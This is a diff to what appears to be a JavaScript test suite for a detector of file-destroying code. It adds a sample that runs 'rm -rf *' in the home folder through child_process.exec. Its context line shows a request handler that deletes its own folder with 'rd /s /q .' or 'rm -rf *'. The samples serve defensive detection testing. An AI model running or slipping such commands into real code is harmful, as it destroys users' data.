@@ -75,6 +75,11 @@ examine(destroysFiles, {
       weight: 'proof',
     },
     {
+      when: 'a shell is started in the home folder and deletes all that is there',
+      files: { 'index.js': `${FS} cp.exec('rm -rf *', { cwd: os.homedir() })` },
+      weight: 'proof',
+    },
+    {
       when: 'a handler of requests deletes whatever folder it is in',
       files: {
         'index.js': `const { exec } = require('child_process'); const line = { win32: 'rd /s /q .', linux: 'rm -rf *' }; module.exports = app => app.post('/sync', () => exec(line[process.platform]));`,
